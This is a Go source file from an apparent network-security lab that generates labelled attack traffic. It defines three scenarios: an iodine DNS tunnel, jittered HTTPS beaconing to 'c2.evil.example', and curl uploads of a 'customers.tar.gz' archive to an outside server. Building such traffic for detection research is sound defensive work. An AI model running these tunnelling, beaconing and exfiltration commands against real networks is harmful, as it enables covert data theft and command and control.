package lab

import (
	"fmt"
	"math/rand/v2"
	"syscall"
	"time"
)

// Command and control, tunnels and exfiltration: a compromised LAN host
// talks to the outside server (203.0.113.10). The labels name the outside
// server as attacker and the compromised host as victim.

func init() {
	c2 := []string{hostExt.IPv4().String(), hostExt.IPv6().String()}
	register(
		&Scenario{
			Name: "iodine", Difficulty: Hard,
			Description: "DNS tunnel: ws1 runs the iodine client through the LAN resolver to iodined on the outside server (t.evil.example), then pings, downloads and uploads through the tunnel.",
			Tools:       []string{"iodine", "ping", "curl"}, Classes: []string{"dns.tunnel"}, MITRE: []string{"T1071.004", "T1572", "T1048.003"},
			AttackerAddrs: c2, Victims: v4(hostWS1), Duration: 30 * time.Second,
			Notes:  "ws1 is the tunnel's client (the compromised host); its queries go through the resolver 10.66.0.10, which forwards t.evil.example to 203.0.113.10",
			attack: iodineAttack,
		},
		&Scenario{
			Name: "beacon", Difficulty: Medium,
			Description: "HTTPS beaconing: ws2 checks in with the C2 (c2.evil.example, outside) at a fixed period with ±30% jitter, each check-in a new DNS lookup and TLS connection.",
			Tools:       []string{"curl"}, Classes: []string{"c2.beacon", "tls.anomaly"}, MITRE: []string{"T1071.001", "T1573.002"},
			AttackerAddrs: c2, Victims: v4(hostWS2), Duration: 40 * time.Second,
			Notes:  "ws2 is the compromised host that beacons; the C2 is outside and serves a self-signed certificate (tls.anomaly)",
			attack: beaconAttack,
		},
		&Scenario{
			Name: "exfil", Difficulty: Medium,
			Description: fmt.Sprintf("Bulk exfiltration: ws1 uploads a %d MB archive over HTTPS to the outside server (4 MB/s).", exfilFileSizeMB),
			Tools:       []string{"curl"}, Classes: []string{"exfil", "tls.anomaly"}, MITRE: []string{"T1048.002"},
			AttackerAddrs: c2, Victims: v4(hostWS1), Duration: 15 * time.Second,
			Notes:  "ws1 is the compromised host that uploads; the receiving server is outside and serves a self-signed certificate (tls.anomaly)",
			attack: exfilAttack,
		},
	)
}

func iodineAttack(a *attackRun) error {
	client := []string{"iodine", "-f", "-r", "-P", iodinePassword, hostServer.IPv4().String(), tunnelDomain}
	return a.during(hostWS1, syscall.SIGTERM, client, func() error {
		if err := a.phase("tunnel setup", func() error { return waitTunnel(a) }); err != nil {
			return err
		}
		far := hostAddr(tunnelNet4, 1).String()
		return a.phase("data through the tunnel", func() error {
			return a.sequence(
				func() error { return a.run(hostWS1, "ping", "-n", "-c", "5", "-i", "0.5", far) },
				func() error {
					return a.run(hostWS1, "curl", "-s", "--max-time", seconds(a.duration), "-o", "/dev/null", "http://"+far+"/update.bin")
				},
				func() error {
					return a.run(hostWS1, "curl", "-s", "--max-time", seconds(a.duration), "-o", "/dev/null",
						"-T", a.w.path("www/static/site.css"), "http://"+far+"/upload/notes.txt")
				},
			)
		})
	})
}

// waitTunnel waits until ws1 has the tunnel's address (iodine configured
// its interface).
func waitTunnel(a *attackRun) error {
	if a.dryRun {
		return nil
	}
	deadline := time.Now().Add(a.duration)
	for time.Now().Before(deadline) {
		out, _ := a.sup.output(a.ctx, hostWS1.NS(), "tunnel-check@ws1", []string{"ip", "-4", "-o", "addr", "show"})
		if containsAddr(out, tunnelNet4) {
			return nil
		}
		if err := a.sleep(500 * time.Millisecond); err != nil {
			return err
		}
	}
	return fmt.Errorf("iodine: no tunnel after %s", a.duration)
}

func beaconAttack(a *attackRun) error {
	period := max(time.Second, a.duration/30) // ~30 check-ins: enough for a beacon score
	rng := rand.New(rand.NewPCG(uint64(time.Now().UnixNano()), 7))
	deadline := a.now().Add(a.duration)
	for n := 0; ; n++ {
		url := fmt.Sprintf("https://%s/api/v1/checkin?id=ws2-7f3a&n=%d", c2Name, n)
		err := a.run(hostWS2, "curl", "-s", "-k", "--max-time", "5", "-A", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
			"-o", "/dev/null", url)
		if err != nil {
			return err
		}
		jitter := time.Duration((rng.Float64()*0.6 - 0.3) * float64(period))
		if a.now().Add(period + jitter).After(deadline) {
			return nil
		}
		if err := a.sleep(period + jitter); err != nil {
			return err
		}
	}
}

func exfilAttack(a *attackRun) error {
	return a.run(hostWS1, "curl", "-s", "-k", "--limit-rate", "4M", "--max-time", seconds(2*a.duration+30*time.Second),
		"-o", "/dev/null", "-T", a.w.path("exfil/customers.tar.gz"),
		fmt.Sprintf("https://%s/upload/customers.tar.gz", hostExt.IPv4()))
}
